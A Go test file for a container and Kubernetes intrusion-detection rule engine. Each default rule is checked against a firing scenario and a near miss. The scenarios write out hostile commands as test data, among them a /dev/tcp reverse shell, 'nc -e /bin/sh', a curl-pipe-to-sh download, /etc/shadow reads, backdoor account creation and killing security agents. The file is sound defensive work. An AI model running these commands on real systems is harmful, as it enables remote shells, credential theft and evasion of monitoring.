package rules

import (
	"slices"
	"strconv"
	"strings"
	"testing"
)

// Each default rule fires on its scenario and stays quiet on a near miss.
func TestDefaultRules(t *testing.T) {
	eng := mustDefaults(t)
	type tc struct {
		rule       string
		fire, miss func(t testing.TB) *Event
	}
	ev := func(e *Event) func(testing.TB) *Event { return func(testing.TB) *Event { return e } }
	au := func(js string) func(testing.TB) *Event { return func(t testing.TB) *Event { return auditEv(t, js) } }
	cases := []tc{
		{"Reverse shell", ev(exec("bash", "-c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")), ev(exec("bash", "-c echo /dev/null"))},
		{"Reverse shell", ev(exec("nc", "-e /bin/sh 203.0.113.9 4444")), ev(exec("nc", "-z db 5432"))},
		{"Crypto miner process", ev(exec("xmrig", "--donate-level 1")), ev(exec("xmllint", "--noout a.xml"))},
		{"Crypto miner process", ev(exec("kworker", "-o stratum+tcp://pool.example:3333")), ev(exec("kworker", "-o tcp://db:3333"))},
		{"Connection to crypto mining pool port", ev(connectEv("kworker", "198.51.100.7", 3333)), ev(connectEv("kworker", "10.0.0.7", 3333))},
		{"Download and run", ev(exec("sh", "-c curl -s http://203.0.113.9/x | sh")), ev(exec("sh", "-c curl -s http://api/health"))},
		{"Reconnaissance tool run", ev(exec("nmap", "-sS 10.0.0.0/24")), ev(exec("nmap", "-sS 10.0.0.0/24", onHost))},
		{"Shell history cleared", ev(fileEv(EventUnlinkat, "rm", "/root/.bash_history", 0)), ev(fileEv(EventUnlinkat, "rm", "/root/.bashrc", 0))},
		{"Log files tampered", ev(fileEv(EventTruncate, "sh", "/var/log/auth.log", 0)), ev(fileEv(EventUnlinkat, "logrotate", "/var/log/auth.log.1", 0))},
		{"User account created or password changed", ev(exec("useradd", "-m backdoor")), ev(exec("id", "-u"))},
		{"SSH server in container", ev(exec("sshd", "-D")), ev(exec("sshd", "-D", onHost))},
		{"Kubelet credentials accessed", ev(fileEv(EventOpenat, "cat", "/var/lib/kubelet/pki/kubelet-client-current.pem", 0)), ev(fileEv(EventOpenat, "kubelet", "/var/lib/kubelet/kubeconfig", 0))},
		{"SSH authorized_keys modified", ev(fileEv(EventOpenat, "sh", "/root/.ssh/authorized_keys", OpenWrite|OpenCreate)), ev(fileEv(EventOpenat, "sh", "/root/.ssh/authorized_keys", 0))},
		{"Shadow file accessed", ev(fileEv(EventOpenat, "cat", "/etc/shadow", 0)), ev(fileEv(EventOpenat, "unix_chkpwd", "/etc/shadow", 0))},
		{"Cloud metadata service contacted", ev(connectEv("curl", "169.254.169.254", 80)), ev(connectEv("curl", "169.254.169.253", 80))},
		{"Namespace change from container", ev(func() *Event { e := exec("unshare", ""); e.Type = EventUnshare; return e }()),
			ev(func() *Event { e := exec("runc", ""); e.Type = EventSetns; return e }())},
		{"Privileged command in container", ev(exec("nsenter", "-t 1 -m sh", func(e *Event) { e.Container.Privileged = true })), ev(exec("nsenter", "-t 1 -m sh"))},
		{"Web shell", ev(exec("sh", "-c id", withParent("php-fpm"))), ev(exec("sh", "-c id", withParent("supervisord")))},
		{"Kernel module loaded", ev(func() *Event { e := exec("insmod", ""); e.Type = EventFinitModule; e.Args.Name = "rootkit"; return e }()), ev(exec("lsmod", ""))},
		{"Timestamp tampering", ev(exec("touch", "-r /bin/ls /tmp/implant")), ev(exec("touch", "/tmp/ready"))},
		{"Security process terminated", ev(exec("pkill", "-9 falco")), ev(exec("pkill", "-9 myworker"))},
		{"Security process terminated", ev(exec("systemctl", "stop auditd")), ev(exec("systemctl", "status auditd"))},
		{"Port forwarding", ev(exec("socat", "TCP-LISTEN:8080,fork TCP:203.0.113.9:80")), ev(exec("socat", "- TCP:db:5432"))},
		{"Test alert", ev(exec("asc_alerttest_662jfi039n", "testing eicar pipe")), ev(exec("alerttest", ""))},
		{"Drift - executable not in image", ev(exec("implant", "", func(e *Event) { e.Proc.ExeUpperLayer = true })), ev(exec("implant", ""))},
		{"Drift - executable not in image", ev(exec("memfd:x", "", func(e *Event) { e.Proc.ExeFromMemfd = true })), ev(exec("memfd:x", "", func(e *Event) { e.Proc.ExeFromMemfd = true; onHost(e) }))},

		{"Privileged container created", au(podCreate(`"securityContext":{"privileged":true}`, "")), au(podCreate(`"securityContext":{"privileged":false}`, ""))},
		{"Sensitive hostPath mounted", au(podCreate("", `{"name":"s","hostPath":{"path":"/var/run/docker.sock"}}`)), au(podCreate("", `{"name":"s","hostPath":{"path":"/data/app"}}`))},
		{"Binding to cluster-admin", au(bindingCreate("cluster-admin")), au(bindingCreate("view"))},
		{"Binding to cluster-admin", au(bindingCreate("cluster-admin")), au(strings.Replace(bindingCreate("cluster-admin"), `"alice"`, `"system:apiserver"`, 1))},
		{"High-privilege role created", au(roleCreate(`"*"`)), au(roleCreate(`"get","list"`))},
		{"High-privilege role created", au(roleCreate(`"get","escalate"`)), au(roleCreate(`"get","watch"`))},
		{"High-privilege role created", au(roleCreate(`"impersonate"`)), au(strings.Replace(roleCreate(`"impersonate"`), `"alice"`, `"system:kube-controller-manager"`, 1))},
		{"Binding to anonymous or unauthenticated users", au(strings.Replace(bindingCreate("view"), `"mallory"`, `"system:anonymous"`, 1)),
			au(strings.Replace(bindingCreate("view"), `"mallory"`, `"system:authenticated"`, 1))},
		{"Exec or attach into pod", au(simpleAudit("create", "pods", "exec", "default", "web-0", "alice")), au(simpleAudit("get", "pods", "log", "default", "web-0", "alice"))},
		{"New container in kube-system", au(strings.Replace(podCreate("", ""), `"default"`, `"kube-system"`, 1)),
			au(strings.Replace(strings.Replace(podCreate("", ""), `"default"`, `"kube-system"`, 1), `"alice"`, `"system:serviceaccount:kube-system:daemon-set-controller"`, 1))},
		{"Kubernetes events deleted", au(simpleAudit("delete", "events", "", "default", "e1", "alice")), au(simpleAudit("get", "events", "", "default", "e1", "alice"))},
		{"Admission webhook configuration changed", au(simpleAudit("patch", "mutatingwebhookconfigurations", "", "", "hook", "alice")), au(simpleAudit("get", "mutatingwebhookconfigurations", "", "", "hook", "alice"))},
		{"Exposed dashboard or database service", au(serviceCreate("LoadBalancer", 5432)), au(serviceCreate("ClusterIP", 5432))},
		{"Anonymous request allowed", au(strings.Replace(simpleAudit("get", "secrets", "", "default", "s", "system:anonymous"), `"uri"`, `"/api/v1/namespaces/default/secrets/s"`, 1)),
			au(strings.Replace(simpleAudit("get", "", "", "", "", "system:anonymous"), `"uri"`, `"/healthz"`, 1))},
		{"Secrets listed across namespaces", au(simpleAudit("list", "secrets", "", "", "", "alice")), au(simpleAudit("list", "secrets", "", "default", "", "alice"))},
		{"CoreDNS configuration changed", au(simpleAudit("update", "configmaps", "", "kube-system", "coredns", "alice")), au(simpleAudit("update", "configmaps", "", "kube-system", "kube-proxy", "alice"))},
		{"Attack tool user agent", au(strings.Replace(simpleAudit("list", "pods", "", "", "", "alice"), "kubectl/v1.30.0", "kube-hunter/0.6", 1)), au(simpleAudit("list", "pods", "", "", "", "alice"))},
	}
	covered := map[string]bool{}
	for _, c := range cases {
		covered[c.rule] = true
		t.Run(c.rule, func(t *testing.T) {
			if got := matchNames(eng.Evaluate(c.fire(t), nil)); !slices.Contains(got, c.rule) {
				t.Errorf("scenario: matched %v, want %q among them", got, c.rule)
			}
			if got := matchNames(eng.Evaluate(c.miss(t), nil)); slices.Contains(got, c.rule) {
				t.Errorf("near miss: %q fired (matched %v)", c.rule, got)
			}
		})
	}
	for _, r := range eng.Rules() {
		if !covered[r.Name] {
			t.Errorf("default rule %q has no scenario test", r.Name)
		}
		if !slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, "mitre_") }) ||
			!slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, "T1") }) {
			t.Errorf("default rule %q lacks a MITRE tactic and technique tag: %v", r.Name, r.Tags)
		}
	}
}

func simpleAudit(verb, res, sub, ns, name, user string) string {
	return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","stage":"ResponseComplete",
"requestURI":"uri","verb":"` + verb + `","user":{"username":"` + user + `","groups":["system:authenticated"]},
"sourceIPs":["192.0.2.10"],"userAgent":"kubectl/v1.30.0 (linux/amd64)",
"objectRef":{"resource":"` + res + `","subresource":"` + sub + `","namespace":"` + ns + `","name":"` + name + `","apiVersion":"v1"},
"responseStatus":{"code":200},"annotations":{"authorization.k8s.io/decision":"allow"}}`
}

func podCreate(secCtx, volume string) string {
	c := `{"name":"app","image":"nginx:1.25"`
	if secCtx != "" {
		c += "," + secCtx
	}
	c += "}"
	vols := ""
	if volume != "" {
		vols = `,"volumes":[` + volume + `]`
	}
	return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create",
"requestURI":"/api/v1/namespaces/default/pods","user":{"username":"alice"},"sourceIPs":["192.0.2.10"],
"objectRef":{"resource":"pods","namespace":"default","name":"p","apiVersion":"v1"},"responseStatus":{"code":201},
"requestObject":{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"containers":[` + c + `]` + vols + `}}}`
}

func bindingCreate(role string) string {
	return `{"kind":"Event","verb":"create","user":{"username":"alice"},"objectRef":{"resource":"clusterrolebindings","name":"b"},
"responseStatus":{"code":201},"requestObject":{"kind":"ClusterRoleBinding","roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"` + role + `"},
"subjects":[{"kind":"User","name":"mallory"}]}}`
}

func roleCreate(verbs string) string {
	return `{"kind":"Event","verb":"create","user":{"username":"alice"},"objectRef":{"resource":"clusterroles","name":"r"},
"requestObject":{"kind":"ClusterRole","rules":[{"apiGroups":[""],"resources":["pods"],"verbs":[` + verbs + `]}]}}`
}

func serviceCreate(typ string, port int) string {
	return `{"kind":"Event","verb":"create","user":{"username":"alice"},"objectRef":{"resource":"services","namespace":"db","name":"pg"},
"requestObject":{"kind":"Service","spec":{"type":"` + typ + `","ports":[{"port":` + itoa(port) + `}]}}}`
}

func itoa(i int) string { return strconv.Itoa(i) }

func TestDeploymentTemplateDecoded(t *testing.T) {
	js := `{"verb":"create","objectRef":{"resource":"deployments","namespace":"x","name":"d"},
"requestObject":{"kind":"Deployment","spec":{"replicas":1,"template":{"spec":{"hostPID":true,"containers":[{"image":"a","securityContext":{"privileged":true}}]}}}}}`
	e := auditEv(t, js)
	got := matchNames(mustDefaults(t).Evaluate(e, nil))
	if !slices.Contains(got, "Privileged container created") {
		t.Errorf("deployment template: got %v", got)
	}
	if !e.Audit.HostPID {
		t.Error("hostPID not decoded from the pod template")
	}
}

func TestOutputRendering(t *testing.T) {
	eng := mustDefaults(t)
	e := exec("xmrig", "-o pool:3333")
	ms := eng.Evaluate(e, nil)
	if len(ms) != 1 {
		t.Fatalf("matches %v", matchNames(ms))
	}
	got := ms[0].Rule.FormatOutput(e)
	want := "Crypto miner started (proc=xmrig cmdline=xmrig -o pool:3333 container=3f2a1b0c9d8e image=docker.io/library/nginx:1.25)"
	if got != want {
		t.Errorf("output\n got %q\nwant %q", got, want)
	}
}
